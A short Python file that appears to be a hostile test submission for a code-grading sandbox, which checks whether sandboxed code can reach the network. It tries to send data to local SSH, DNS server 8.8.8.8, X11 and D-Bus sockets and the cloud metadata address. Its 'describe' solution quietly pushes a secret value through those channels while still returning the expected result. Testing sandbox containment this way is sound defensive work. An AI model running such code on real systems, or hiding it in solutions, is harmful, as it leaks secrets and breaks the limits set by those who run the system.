# Tries: to reach anybody: servers of the host, the world, name servers, abstract sockets.
# Earns: test_describe, test_last
# Goal: data

# %%
import socket
import urllib.request


def tell(text):
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 80)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0/tmp/.X11-unix/X0"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"),
    ):
        try:
            client = socket.socket(family, kind)
            client.settimeout(0.1)
            client.connect(address)
            client.send(text.encode())
            print("ESCAPED", address)
        except OSError:
            pass


tell("x")
try:
    urllib.request.urlopen("http://169.254.169.254/", timeout=0.2)
    print("ESCAPED")
except OSError:
    pass


# %% solution="describe"
def describe(frame):
    tell(frame["secret"][0])
    return len(frame)
